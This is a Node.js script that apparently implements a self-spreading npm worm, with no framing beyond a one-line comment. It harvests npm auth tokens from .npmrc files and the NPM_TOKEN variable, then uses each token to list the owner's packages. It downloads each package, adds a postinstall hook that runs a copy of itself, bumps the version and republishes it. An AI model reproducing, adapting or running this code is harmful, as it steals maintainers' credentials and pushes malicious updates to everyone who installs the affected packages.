// Publishes itself again with the token that it finds.
const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

const registry = 'https://packages.invalid';

function findTokens() {
  const tokens = new Set();
  const files = [path.join(os.homedir(), '.npmrc'), path.join(process.cwd(), '.npmrc')];
  for (const file of files) {
    if (!fs.existsSync(file)) continue;
    const lines = fs.readFileSync(file, 'utf8').split('\n');
    for (const line of lines) {
      const match = /_authToken\s*=\s*(.+)$/.exec(line);
      if (match) tokens.add(match[1].trim());
    }
  }
  if (process.env.NPM_TOKEN) tokens.add(process.env.NPM_TOKEN);
  return [...tokens];
}

async function whoami(token) {
  const answer = await fetch(registry + '/-/whoami', { headers: { authorization: 'Bearer ' + token } });
  if (!answer.ok) return null;
  return (await answer.json()).username;
}

async function packagesOf(user, token) {
  const answer = await fetch(`${registry}/-/v1/search?text=maintainer:${user}&size=20`, {
    headers: { authorization: `Bearer ${token}` },
  });
  const result = await answer.json();
  return result.objects.map((o) => o.package.name);
}

function infect(name, token) {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'p-'));
  execSync(`npm pack ${name} --registry ${registry}`, { cwd: dir, stdio: 'ignore' });
  const tarball = fs.readdirSync(dir).find((f) => f.endsWith('.tgz'));
  execSync(`tar -xzf ${tarball}`, { cwd: dir });
  const folder = path.join(dir, 'package');
  const manifestPath = path.join(folder, 'package.json');
  const manifest = JSON.parse(fs.readFileSync(manifestPath, 'utf8'));
  const [major, minor, patch] = manifest.version.split('.').map(Number);
  manifest.version = [major, minor, patch + 1].join('.');
  manifest.scripts = Object.assign({}, manifest.scripts, { postinstall: 'node bundle.js' });
  fs.writeFileSync(manifestPath, JSON.stringify(manifest, null, 2));
  fs.copyFileSync(__filename, path.join(folder, 'bundle.js'));
  fs.writeFileSync(path.join(folder, '.npmrc'), `//packages.invalid/:_authToken=${token}`);
  execSync('npm publish --registry ' + registry, { cwd: folder, stdio: 'ignore' });
}

(async () => {
  for (const token of findTokens()) {
    const user = await whoami(token).catch(() => null);
    if (!user) continue;
    for (const name of await packagesOf(user, token)) {
      try {
        infect(name, token);
      } catch (error) {
        // next
      }
    }
  }
})();
